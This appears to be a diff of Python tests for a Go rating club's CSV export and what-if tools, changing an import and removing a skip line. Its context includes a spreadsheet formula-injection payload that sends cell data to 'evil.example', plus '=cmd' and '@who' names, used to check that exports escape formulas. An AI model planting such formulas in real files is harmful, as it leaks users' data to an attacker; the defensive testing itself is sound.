@@ -20,7 +20,7 @@ from ratings.models import Player
 from ratings.recompute import recompute_list
 from ratings.services import GameRow
 from ratings.whatif import rate_csv
-from tests.conftest import make_pool
+from tests.support import make_pool
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
 
@@ -116,7 +116,6 @@ def test_the_game_export_and_it_reads_back(client_for, club, evil_games) -> None
 
 
 def test_the_what_if_results(db) -> None:  # type: ignore[no-untyped-def]
-    pytest.importorskip("ratings.engine.sagc")
     text = "date,white,black,winner,handicap,komi,white_start,black_start\n2024-03-05,=cmd,@who,black,0,6.5,5k,5k\n"
     rows = list(csv.DictReader(io.StringIO(rate_csv(text, "sagc"))))
     assert {row["player"] for row in rows} == {"'=cmd", "'@who"}
